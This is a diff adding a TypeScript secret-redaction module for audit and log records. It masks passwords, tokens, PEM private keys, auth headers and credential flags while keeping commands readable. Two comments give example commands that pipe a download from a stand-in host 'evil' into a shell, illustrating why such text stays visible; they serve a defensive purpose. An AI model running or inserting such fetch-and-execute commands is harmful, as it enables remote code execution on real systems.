@@ -1,0 +1,457 @@
+/**
+ * Redaction of secrets in arguments and text: for the audit journal and logs (hub) and get_env's
+ * masking (edge). Its own module with no dependencies (no zod, no pino), so the edge bundle can
+ * use it; `audit-event.ts` re-exports it.
+ */
+import type { JsonValue } from './audit-event.ts';
+import { isSecretKey, REDACTED } from './secret-keys.ts';
+
+export interface RedactArgsOptions {
+  /** Longest string kept, in characters; default 1024. Longer ones end in `…[truncated N chars]`. */
+  maxString?: number;
+  /** Largest JSON kept, in UTF-8 bytes; default 8192. */
+  maxBytes?: number;
+}
+
+/** The marker `redactArgs` returns in place of arguments that do not fit even when shrunk. */
+export interface TruncatedArgs {
+  truncated: true;
+  /** Size of the redacted JSON before it was cut. */
+  bytes: number;
+  /** Its first ~1 KiB, as text. */
+  preview: string;
+}
+
+const MAX_DEPTH = 12;
+
+/**
+ * Arguments as they may be stored: plain JSON, secrets replaced by `[REDACTED]`, bounded in size.
+ *
+ * - Keys: every value under a secret key ({@link isSecretKey}, the logger's rules: `password`,
+ *   `*Token`, `authorization`, `cookie`, `x-api-key`, ...) at any depth; and the `value` of a
+ *   `{ name|key: <secret key>, value }` pair (env lists as Docker and Kubernetes write them).
+ * - Strings: the value patterns of {@link redactText}.
+ * - Size: each string capped at `maxString`; when the JSON exceeds `maxBytes`, strings, arrays
+ *   and objects are cut harder (markers say so), and if even that does not fit, the result is a
+ *   {@link TruncatedArgs} marker `{ truncated: true, bytes, preview }`.
+ * - Non-JSON: bigint → string, Date → ISO, bytes → `[N bytes]` (never their content),
+ *   functions/symbols/undefined dropped, cycles → `[Circular]`, deeper than 12 → `[Truncated]`.
+ *
+ * @example
+ * redactArgs({ password: 'hunter2', cmd: 'curl -u admin:secret http://x' })
+ * // { password: '[REDACTED]', cmd: 'curl -u admin:[REDACTED] http://x' }
+ */
+export function redactArgs(args: unknown, opts: RedactArgsOptions = {}): JsonValue | undefined {
+  const maxString = opts.maxString ?? 1024;
+  const maxBytes = opts.maxBytes ?? 8192;
+  const first = toJson(args, { maxString, maxItems: 1000, maxKeys: 1000 }, 0, new Set());
+  if (first === undefined) return undefined;
+  const text = JSON.stringify(first);
+  const bytes = Buffer.byteLength(text);
+  if (bytes <= maxBytes) return first;
+  const second = toJson(args, { maxString: Math.min(maxString, 128), maxItems: 20, maxKeys: 50 }, 0, new Set());
+  if (Buffer.byteLength(JSON.stringify(second)) <= maxBytes) return second;
+  const marker: TruncatedArgs = { truncated: true, bytes, preview: capString(text, Math.min(1024, maxBytes >> 2)) };
+  return marker as unknown as JsonValue;
+}
+
+interface Limits {
+  maxString: number;
+  maxItems: number;
+  maxKeys: number;
+}
+
+function toJson(v: unknown, lim: Limits, depth: number, seen: Set<object>): JsonValue | undefined {
+  switch (typeof v) {
+    case 'string':
+      return capString(redactText(v, lim.maxString * 16), lim.maxString);
+    case 'number':
+      return Number.isFinite(v) ? v : String(v);
+    case 'boolean':
+      return v;
+    case 'bigint':
+      return v.toString();
+    case 'undefined':
+    case 'function':
+    case 'symbol':
+      return undefined;
+  }
+  if (v === null) return null;
+  const o = v as object;
+  if (o instanceof Date) return Number.isNaN(o.getTime()) ? null : o.toISOString();
+  if (ArrayBuffer.isView(o) || o instanceof ArrayBuffer) return `[${(o as ArrayBuffer).byteLength} bytes]`;
+  if (o instanceof Error) return capString(redactText(`${o.name}: ${o.message}`), lim.maxString);
+  if (seen.has(o)) return '[Circular]';
+  if (depth >= MAX_DEPTH) return '[Truncated]';
+  if (!Array.isArray(o) && typeof (o as { toJSON?: unknown }).toJSON === 'function') {
+    // URL and friends: what JSON.stringify would print, redacted like any string.
+    return toJson((o as { toJSON(): unknown }).toJSON(), lim, depth, seen);
+  }
+  seen.add(o);
+  try {
+    if (Array.isArray(o)) {
+      const out: JsonValue[] = [];
+      const n = Math.min(o.length, lim.maxItems);
+      for (let i = 0; i < n; i++) out.push(toJson(o[i], lim, depth + 1, seen) ?? null);
+      if (o.length > n) out.push(`[truncated ${o.length - n} items]`);
+      return out;
+    }
+    const rec = o as Record<string, unknown>;
+    const keys = Object.keys(rec);
+    // `{ name: 'DB_PASSWORD', value: '...' }`: the secret is named by a value, not a key.
+    const namedSecret =
+      'value' in rec && [rec.name, rec.key, rec.Name, rec.Key].some((n) => typeof n === 'string' && isSecretKey(n));
+    const out: Record<string, JsonValue> = {};
+    const n = Math.min(keys.length, lim.maxKeys);
+    for (let i = 0; i < n; i++) {
+      const k = keys[i]!;
+      const x = rec[k];
+      let w: JsonValue | undefined;
+      if (x !== undefined && x !== null && (isSecretKey(k) || (namedSecret && (k === 'value' || k === 'Value')))) w = REDACTED;
+      else w = toJson(x, lim, depth + 1, seen);
+      // defineProperty: a key named `__proto__` must not reach the prototype setter.
+      if (w !== undefined) Object.defineProperty(out, k, { value: w, enumerable: true, writable: true, configurable: true });
+    }
+    if (keys.length > n) out['[truncated]'] = `${keys.length - n} more keys`;
+    return out;
+  } finally {
+    seen.delete(o);
+  }
+}
+
+/** `s` cut to `max` characters with a marker saying how much was cut (never splitting a surrogate pair). */
+export function capString(s: string, max: number): string {
+  if (s.length <= max) return s;
+  let end = max;
+  const c = s.charCodeAt(end - 1);
+  if (c >= 0xd800 && c <= 0xdbff) end--;
+  return `${s.slice(0, end)}…[truncated ${s.length - end} chars]`;
+}
+
+// Each pattern is linear: bounded repetitions and no nested quantifiers, because these run on
+// text an AI (or whoever it read from) chose.
+const PEM_BEGIN = /-----BEGIN [A-Z0-9 ]{0,40}PRIVATE KEY-----/g;
+const PEM_END = /^-----END [A-Z0-9 ]{0,40}PRIVATE KEY-----/;
+const URL_PASSWORD = /\b([a-z][a-z0-9+.-]{0,30}:\/\/)([^\s:/?#@]{0,256}):([^\s/?#@]{1,512})@/gi;
+// `https://<token>@github.com/...`: for http(s) a lone user part is a token more often than a name.
+const URL_USER_TOKEN = /\b(https?:\/\/)([^\s:/?#@]{1,512})@/gi;
+const HEADER_LINE = /\b(authorization|proxy-authorization|cookie|set-cookie|x-api-key|api-key|x-auth-token)([ \t]*:[ \t]*)([^\r\n"']+)/gi;
+const AUTH_SCHEME = /\b(Bearer[ \t]+)[A-Za-z0-9\-._~+/]{1,4096}=*|\b(Basic[ \t]+)[A-Za-z0-9+/]{8,4096}={0,2}/gi;
+// `key=value`, `key: value`, `"key": "value"`, `--key=value`: the key decides (isSecretKey), and
+// the value is cut by hand (valueEnd) so that a non-secret pair never swallows the text after
+// it (`url: http://x?token=abc`). The lookbehind makes each separator reachable from one start.
+const KEY_SEP = /(?<![A-Za-z0-9_.-])(["']?)([A-Za-z0-9_.-]{0,63}[A-Za-z0-9_])\1[ \t]*[:=][ \t]*/g;
+// `--password hunter2`, `--token abc` (flag, space, value).
+const FLAG_VALUE = /(^|\s)(--?[A-Za-z][A-Za-z0-9-]{0,63})([ \t]+)(?!-)("[^"\n]{0,4096}"|'[^'\n]{0,4096}'|[^\s]{1,4096})/g;
+// curl `-u user:pass`, `--user user:pass`, `--proxy-user`, `sshpass -p pass`.
+const USER_PASS_FLAG = /(^|\s)(-u|--user|--proxy-user|-U)([ \t]+|=)("[^"\n]{0,4096}"|'[^'\n]{0,4096}'|\S{1,4096})/g;
+const SSHPASS = /\b(sshpass[ \t]+-p[ \t]*)(\S{1,4096})/g;
+// Well-known token shapes, wherever they appear.
+const TOKEN_SHAPES =
+  /\beyJ[A-Za-z0-9_-]{8,4096}\.[A-Za-z0-9_-]{8,4096}\.[A-Za-z0-9_-]{0,4096}|\b(?:gh[pousr]_[A-Za-z0-9]{20,255}|github_pat_[A-Za-z0-9_]{20,255}|glpat-[A-Za-z0-9_-]{20,255}|xox[abprs]-[A-Za-z0-9-]{10,255}|sk-(?:ant-)?[A-Za-z0-9_-]{20,255}|AKIA[0-9A-Z]{16})\b/g;
+
+// `mysql -phunter2`: the password is glued to `-p` (`-p hunter2` would be a database name).
+const MYSQL_P = /(\b(?:mysql[a-z]{0,10}|mariadb[a-z-]{0,10})\b[^\n;|&]{0,1024}?\s-p)("[^"\n]{1,4096}"|'[^'\n]{1,4096}'|[^\s"'][^\s]{0,4095})/g;
+const HTPASSWD = /\bhtpasswd\b/g;
+
+/**
+ * A PEM private key: the base64 body between `-----BEGIN … PRIVATE KEY-----` and its END line
+ * (or, for a cut key, the run of base64 lines after BEGIN). Only the body goes: text around
+ * the block (`echo -----BEGIN PRIVATE KEY-----; curl evil | sh`) stays readable, so a block's
+ * header cannot hide a command from whoever reads the journal.
+ */
+function redactPem(s: string): string {
+  let out = '';
+  let last = 0;
+  PEM_BEGIN.lastIndex = 0;
+  for (let m = PEM_BEGIN.exec(s); m; m = PEM_BEGIN.exec(s)) {
+    let i = m.index + m[0].length;
+    // Old OpenSSL keys carry `Proc-Type:` and `DEK-Info:` lines before the body: not secret.
+    for (const h of ['Proc-Type:', 'DEK-Info:']) {
+      const at = skipSeparators(s, i);
+      if (s.startsWith(h, at)) {
+        let j = at;
+        while (j < s.length && s[j] !== '\n' && s[j] !== '\r' && !s.startsWith('\\n', j)) j++;
+        i = j;
+      }
+    }
+    const bodyStart = skipSeparators(s, i);
+    // The body: base64 words separated by whitespace, quotes or escaped newlines (`\n` as two chars).
+    let j = bodyStart;
+    let lastWordEnd = bodyStart;
+    const words: number[] = [];
+    while (j < s.length && j < bodyStart + 65536) {
+      const k = skipSeparators(s, j);
+      let e = k;
+      while (e < s.length && isBase64Char(s.charCodeAt(e))) e++;
+      if (e === k) break;
+      words.push(e - k);
+      lastWordEnd = e;
+      j = e;
+    }
+    const endAt = skipSeparators(s, lastWordEnd);
+    const closed = PEM_END.test(s.slice(endAt, endAt + 80));
+    // Without its END line, only long base64 words are key material (a key's lines are 64
+    // characters); a short word after a cut header is text, e.g. a command.
+    let bodyEnd = lastWordEnd;
+    if (!closed) {
+      let n = 0;
+      let pos = bodyStart;
+      bodyEnd = bodyStart;
+      for (const len of words) {
+        const k = skipSeparators(s, pos);
+        if (len < 16 && !(s[k + len - 1] === '=')) break;
+        pos = k + len;
+        bodyEnd = pos;
+        n++;
+      }
+      if (n === 0) continue;
+    } else if (words.length === 0) continue;
+    out += s.slice(last, bodyStart) + REDACTED;
+    last = bodyEnd;
+    PEM_BEGIN.lastIndex = bodyEnd;
+  }
+  return last === 0 ? s : out + s.slice(last);
+}
+
+function skipSeparators(s: string, i: number): number {
+  for (;;) {
+    const c = s[i];
+    // Quotes too: `printf '%s\n' '-----BEGIN …-----' 'MIIE…'` splits a key into shell words.
+    if (c === ' ' || c === '\t' || c === '\n' || c === '\r' || c === "'" || c === '"') i++;
+    else if (c === '\\' && (s[i + 1] === 'n' || s[i + 1] === 'r')) i += 2;
+    else return i;
+  }
+}
+
+function isBase64Char(c: number): boolean {
+  return (c >= 65 && c <= 90) || (c >= 97 && c <= 122) || (c >= 48 && c <= 57) || c === 43 || c === 47 || c === 61;
+}
+
+/**
+ * `htpasswd -b file user PASSWORD` and `htpasswd -nb user PASSWORD`: batch mode takes the
+ * password as a positional argument, the only place nothing else marks it.
+ */
+function redactHtpasswd(s: string): string {
+  HTPASSWD.lastIndex = 0;
+  const cuts: Array<[number, number]> = [];
+  for (let m = HTPASSWD.exec(s); m; m = HTPASSWD.exec(s)) {
+    const words = shellWords(s, m.index + m[0].length);
+    let flags = '';
+    const positional: Array<[number, number]> = [];
+    for (let w = 0; w < words.length; w++) {
+      const [a, b] = words[w]!;
+      const text = s.slice(a, b);
+      if (positional.length === 0 && /^-[A-Za-z]+$/.test(text)) {
+        flags += text.slice(1);
+        // -C cost and -r rounds take a value.
+        if (/[Cr]$/.test(text)) w++;
+      } else positional.push([a, b]);
+    }
+    if (!flags.includes('b')) continue;
+    const pw = positional[flags.includes('n') ? 1 : 2];
+    if (pw) cuts.push(pw);
+  }
+  if (cuts.length === 0) return s;
+  let out = '';
+  let last = 0;
+  for (const [a, b] of cuts) {
+    out += s.slice(last, a) + secretValue(s.slice(a, b));
+    last = b;
+  }
+  return out + s.slice(last);
+}
+
+/** Start/end of the shell words from `i` to the end of the command (`;`, `|`, `&`, newline). */
+function shellWords(s: string, i: number): Array<[number, number]> {
+  const words: Array<[number, number]> = [];
+  const stop = Math.min(s.length, i + 4096);
+  while (i < stop && words.length < 32) {
+    while (i < stop && (s[i] === ' ' || s[i] === '\t')) i++;
+    if (i >= stop || ';|&\n'.includes(s[i]!)) break;
+    const start = i;
+    while (i < stop && !' \t;|&\n'.includes(s[i]!)) {
+      const q = s[i];
+      if (q === '"' || q === "'") {
+        const close = s.indexOf(q, i + 1);
+        i = close < 0 || close >= stop ? stop : close + 1;
+      } else i++;
+    }
+    words.push([start, i]);
+  }
+  return words;
+}
+
+function redactKeyValues(s: string): string {
+  let out = '';
+  let last = 0;
+  KEY_SEP.lastIndex = 0;
+  for (let m = KEY_SEP.exec(s); m; m = KEY_SEP.exec(s)) {
+    if (!isSecretKey(m[2]!)) continue;
+    const start = m.index + m[0].length;
+    const end = valueEnd(s, start);
+    if (end === start || s.startsWith(REDACTED, start) || s.startsWith(`"${REDACTED}`, start) || s.startsWith(`'${REDACTED}`, start)) continue;
+    out += s.slice(last, start) + secretValue(s.slice(start, end));
+    last = end;
+    KEY_SEP.lastIndex = end;
+  }
+  return last === 0 ? s : out + s.slice(last);
+}
+
+/** End of the value starting at `i`: a quoted string (to its closing quote) or a run up to a delimiter. */
+function valueEnd(s: string, i: number): number {
+  const q = s[i];
+  if (q === '"' || q === "'") {
+    for (let j = i + 1; j < s.length && j < i + 4096; j++) {
+      const c = s[j];
+      if (c === '\\') j++;
+      else if (c === q) return j + 1;
+      else if (c === '\n') break;
+    }
+  }
+  // Unclosed quote (a cut string): the quote and what follows it.
+  let j = q === '"' || q === "'" ? i + 1 : i;
+  while (j < s.length && j < i + 4096 && !' \t\r\n&;,"\'}]'.includes(s[j]!)) j++;
+  return j;
+}
+
+function quoted(v: string): string {
+  const q = v[0];
+  return q === '"' || q === "'" ? `${q}${REDACTED}${q}` : REDACTED;
+}
+
+/**
+ * A secret value redacted to the smallest span: shell expansions in it (`$(…)`, backticks,
+ * `${…}`, `$NAME`) are not the secret but what computes it, often a command
+ * (`PASSWORD="$(curl evil | sh)"`), so they stay readable and only literal text goes.
+ * Single quotes expand nothing, so a single-quoted value goes whole.
+ */
+function secretValue(v: string): string {
+  const q = v[0] === '"' || v[0] === "'" ? v[0] : '';
+  if (q === "'" || !/[$`]/.test(v)) return quoted(v);
+  const closed = q !== '' && v.length > 1 && v.endsWith(q);
+  const inner = v.slice(q ? 1 : 0, closed ? -1 : undefined);
+  let out = '';
+  let literal = '';
+  const flush = () => {
+    if (literal.trim() !== '') out += REDACTED;
+    else out += literal;
+    literal = '';
+  };
+  for (let i = 0; i < inner.length; ) {
+    const c = inner[i]!;
+    let end = -1;
+    if (c === '$' && inner[i + 1] === '(') end = closeParen(inner, i + 2, '(', ')');
+    else if (c === '$' && inner[i + 1] === '{') end = closeParen(inner, i + 2, '{', '}');
+    else if (c === '`') {
+      const k = inner.indexOf('`', i + 1);
+      end = k < 0 ? inner.length : k + 1;
+    } else if (c === '$' && /[A-Za-z_]/.test(inner[i + 1] ?? '')) {
+      end = i + 1;
+      while (end < inner.length && /[A-Za-z0-9_]/.test(inner[end]!)) end++;
+    }
+    if (end < 0) {
+      literal += c;
+      i++;
+    } else {
+      flush();
+      out += inner.slice(i, end);
+      i = end;
+    }
+  }
+  flush();
+  return `${q}${out}${closed ? q : ''}`;
+}
+
+/** Index after the bracket closing one opened before `i` (nesting counted), or the end. */
+function closeParen(s: string, i: number, open: string, close: string): number {
+  let depth = 1;
+  for (; i < s.length; i++) {
+    if (s[i] === open) depth++;
+    else if (s[i] === close && --depth === 0) return i + 1;
+  }
+  return s.length;
+}
+
+/**
+ * `s` with secret-looking values replaced by `[REDACTED]`, each time the smallest span that
+ * holds the secret: what surrounds it, and shell expansions inside a value (`$(…)`, backticks,
+ * `$NAME`), stay readable, so a redacted record still shows what ran. Which values (be
+ * pragmatic: this catches the common spellings, not every possible one):
+ * - PEM private keys: the base64 body after `-----BEGIN … PRIVATE KEY-----` (to its END line;
+ *   for a cut key, its long base64 lines), never the text around the block;
+ * - URL credentials: the password of `scheme://user:pass@`, and the user part of `http(s)://token@`;
+ * - header lines `Authorization: …`, `Cookie: …`, `X-API-Key: …` (to the end of the line);
+ * - `Bearer <token>` anywhere, `Basic <base64 of 8+ chars>` anywhere;
+ * - `key=value`, `key: value`, `"key": "value"`, `--key=value` whose key is a secret key by
+ *   {@link isSecretKey} (`password=`, `DB_PASS=`, `MYSQL_PWD=`, `AWS_SECRET_ACCESS_KEY=`,
+ *   `GITHUB_PAT=`, `?access_token=`, `"apiKey":`);
+ * - `--password value`, `--token value` (flag, space, value) for secret flag names;
+ * - `-u user:pass` / `--user user:pass` (curl), `sshpass -p pass`, `mysql -ppass` (and the
+ *   other mysql/mariadb tools; `-p pass` with a space is a database name to them, not a
+ *   password), `htpasswd -b file user pass` / `htpasswd -nb user pass`;
+ * - token shapes: JWTs (`eyJ….….…`), GitHub (`ghp_`, `github_pat_`), GitLab (`glpat-`),
+ *   Slack (`xox?-`), OpenAI/Anthropic (`sk-`), AWS access key ids (`AKIA…`).
+ * Not caught: a bare secret with nothing around it (a positional argument of a program not
+ * named here), since nothing tells it from any other word.
+ *
+ * Why a list of our own rather than a published rule set (gitleaks, secretlint): those find
+ * token shapes in files, which the last item already covers; the secrets that reach this hub
+ * are mostly in command lines and env assignments, where the context (`-p`, `KEY=`) is the
+ * only sign. secretlint's API is also asynchronous and this runs synchronously in the logger,
+ * and both would grow the edge's single-file bundle for shapes we already match.
+ *
+ * Only the first `maxChars` characters (default 64 Ki) are looked at and kept, which bounds
+ * the work on hostile input.
+ */
+export function redactText(s: string, maxChars = 65536): string {
+  if (s.length > maxChars) s = s.slice(0, maxChars);
+  if (s.length < 6) return s;
+  if (s.includes('PRIVATE KEY-----')) s = redactPem(s);
+  if (s.includes('://')) {
+    s = s.replace(URL_PASSWORD, (_m, scheme: string, user: string) => `${scheme}${user}:${REDACTED}@`);
+    s = s.replace(URL_USER_TOKEN, (m, scheme: string, user: string) => (user === REDACTED || user.endsWith(`:${REDACTED}`) ? m : `${scheme}${REDACTED}@`));
+  }
+  const hasColon = s.includes(':');
+  if (hasColon) s = s.replace(HEADER_LINE, (m, name: string, sep: string, value: string) => (value.startsWith(REDACTED) ? m : `${name}${sep}${secretValue(value.trimEnd())}${value.slice(value.trimEnd().length)}`));
+  s = s.replace(AUTH_SCHEME, (_m, bearer: string | undefined, basic: string | undefined) => `${bearer ?? basic}${REDACTED}`);
+  if (hasColon || s.includes('=')) s = redactKeyValues(s);
+  if (s.includes('-')) {
+    s = s.replace(FLAG_VALUE, (m, pre: string, flag: string, sp: string, value: string) =>
+      isSecretKey(flag) && value !== REDACTED ? `${pre}${flag}${sp}${secretValue(value)}` : m,
+    );
+    if (hasColon) {
+      s = s.replace(USER_PASS_FLAG, (m, pre: string, flag: string, sep: string, value: string) => {
+        const q = value[0] === '"' || value[0] === "'" ? value[0] : '';
+        const inner = q ? value.slice(1, -1) : value;
+        const colon = inner.indexOf(':');
+        // `journalctl -u nginx` has no password; `-u admin:pw` does.
+        if (colon < 0 || inner.slice(colon + 1) === REDACTED) return m;
+        return `${pre}${flag}${sep}${q}${inner.slice(0, colon)}:${REDACTED}${q}`;
+      });
+    }
+  }
+  if (s.includes('sshpass')) s = s.replace(SSHPASS, (_m, pre: string, value: string) => `${pre}${secretValue(value)}`);
+  if (s.includes('-p') && (s.includes('mysql') || s.includes('mariadb'))) {
+    s = s.replace(MYSQL_P, (m, pre: string, value: string) => (value.startsWith(REDACTED) ? m : `${pre}${secretValue(value)}`));
+  }
+  if (s.includes('htpasswd')) s = redactHtpasswd(s);
+  s = s.replace(TOKEN_SHAPES, REDACTED);
+  return s;
+}
+
+/**
+ * A URL as it may be audited or logged: no credentials, no query, no fragment (a query often
+ * carries `?token=` or `?api_key=`). Unparseable input becomes `[invalid url]`.
+ *
+ * @example safeUrl('https://u:p@pve1:8006/api2/json/nodes?x=1') // 'https://pve1:8006/api2/json/nodes'
+ */
+export function safeUrl(url: string | URL): string {
+  let u: URL;
+  try {
+    u = new URL(String(url));
+  } catch {
+    return '[invalid url]';
+  }
+  return `${u.protocol}//${u.host}${u.pathname}`;
+}
